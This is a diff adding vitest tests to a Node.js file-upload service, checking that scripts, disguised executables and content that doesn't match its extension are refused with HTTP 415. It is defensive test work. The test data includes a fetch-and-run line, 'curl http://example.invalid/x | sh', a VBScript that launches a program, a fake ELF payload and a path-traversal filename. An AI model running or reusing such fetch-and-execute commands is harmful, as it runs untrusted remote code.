@@ -2,6 +2,9 @@
 // attachments with nosniff, access that follows the record a file belongs to, zips, encrypted
 // batch deletes, temporary URLs, and chunked large-file uploads that resume.
 import { constants, createHash, createPublicKey, publicEncrypt, randomBytes } from 'node:crypto';
+import { existsSync, readdirSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { sql } from 'drizzle-orm';
 import yauzl from 'yauzl';
@@ -124,6 +127,53 @@ describe('upload and download', () => {
     expect(
       (await upload('../../etc/passwd.txt', Buffer.from('plain text'))).body.data[0]!.originalFileName,
     ).toBe('passwd.txt');
+  });
+
+  it('accepts only the listed types: programs and scripts are refused whatever their name', async () => {
+    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
+    const vbs = Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n');
+    for (const name of [
+      'invoice.hta',
+      'run.wsf',
+      'a.vbe',
+      'settings.reg',
+      'shortcut.lnk',
+      'tool.py',
+      'noext',
+    ]) {
+      const refused = await upload(name, vbs);
+      expect(refused.httpStatus, name).toBe(415);
+      expect(refused.body.status).toBe('E');
+      expect(refused.body.msg, name).toMatch(/^当前文件扩展名不能上传附件：\./);
+    }
+    for (const name of ['notes.txt', 'prices.csv', 'data.json', 'part.step']) {
+      const refused = await upload(name, script);
+      expect(refused.httpStatus, name).toBe(415);
+      expect(refused.body.msg).toBe('程序和脚本不能作为附件上传');
+    }
+    const bom = await upload('notes.txt', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), script]));
+    expect(bom.body.msg).toBe('程序和脚本不能作为附件上传');
+    const form = new FormData();
+    form.append('files', new Blob([script]), 'notes.csv');
+    const english = await fetch(`${server.url}/api/file/v2/file/upload`, {
+      method: 'POST',
+      headers: { 'x-test-actor': JSON.stringify(buyer), 'SAAF-Language': 'EN' },
+      body: form,
+    });
+    expect(english.status).toBe(415);
+    expect(((await english.json()) as { msg: string }).msg).toBe('Programs and scripts cannot be uploaded');
+    // Text must be text throughout, not only in its first block.
+    const nul = Buffer.concat([Buffer.from('a,b\n'.repeat(50_000)), Buffer.from([0]), Buffer.from('c\n')]);
+    expect((await upload('big.csv', nul)).httpStatus).toBe(415);
+    // A program disguised as a document.
+    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(600)]);
+    expect((await upload('drawing.dwg', elf)).body.msg).toBe('程序和脚本不能作为附件上传');
+    // Chinese text in GBK or UTF-8 is text.
+    const csv = Buffer.concat([
+      Buffer.from('物料,数量\r\n螺栓,10\r\n'),
+      Buffer.from([0xc2, 0xdd, 0xcb, 0xa8]),
+    ]);
+    expect((await upload('物料.csv', csv)).body.status).toBe('S');
   });
 
   it('answers JSON with status E instead of a file when a download is refused', async () => {
@@ -451,6 +501,36 @@ describe('large-file mode', () => {
       });
     expect((await get(supplierB)).status).toBe(200);
     expect((await get(supplierA)).status).toBe(404);
+  });
+
+  it('refuses with 415 a large upload whose content is not its extension, and keeps nothing of it', async () => {
+    const id = `test-${randomBytes(8).toString('hex')}`;
+    const uploads = await server.count('base_large_upload');
+    const form = new FormData();
+    form.append('uploadId', id);
+    form.append('fileName', '图纸包.pdf');
+    form.append('totalSize', String(3 * chunkSize));
+    form.append('chunkSize', String(chunkSize));
+    form.append('chunkIndex', '0');
+    form.append('chunk', new Blob([randomBytes(chunkSize)]), '图纸包.pdf');
+    const response = await fetch(`${server.url}/api/largeFile/v1/largeFile/upload`, {
+      method: 'POST',
+      headers: { 'x-test-actor': JSON.stringify(buyer) },
+      body: form,
+    });
+    expect(response.status).toBe(415);
+    expect(await response.json()).toEqual({ status: 'E', msg: '文件内容与扩展名 .pdf 不符', data: null });
+    expect(await server.count('base_large_upload')).toBe(uploads);
+    const status = await server.post(
+      '/api/largeFile/v1/largeFile/uploadStatus',
+      { uploadId: id },
+      { actor: buyer },
+    );
+    expect(status.httpStatus).toBe(404);
+    const partFiles = readdirSync(tmpdir())
+      .filter((name) => name.startsWith('srm-test-data-'))
+      .map((name) => join(tmpdir(), name, 'files', 'tmp', 'large', `${id}.part`));
+    expect(partFiles.filter((path) => existsSync(path))).toEqual([]);
   });
 
   it('takes the chunks of a new upload in parallel without losing any', async () => {
